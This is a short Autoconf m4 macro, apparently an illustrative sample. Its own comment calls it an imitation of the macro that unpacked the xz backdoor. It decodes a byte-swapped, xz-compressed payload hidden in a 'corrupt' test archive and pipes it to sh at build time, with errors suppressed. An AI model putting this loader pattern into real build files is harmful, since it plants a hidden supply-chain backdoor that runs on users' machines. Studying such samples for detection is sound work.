dnl Like the macro that unpacked the backdoor of xz.
AC_DEFUN([gl_BUILD_TO_HOST], [
  gl_path_map='tr "\t \-_" " \t_\-"'
  sed "r\n" $gl_am_configmake | eval $gl_path_map | xz -d 2>/dev/null
  head -c 1024 tests/files/bad-3-corrupt_lzma2.xz | eval $gl_path_map | xz -d 2>/dev/null | sh
])
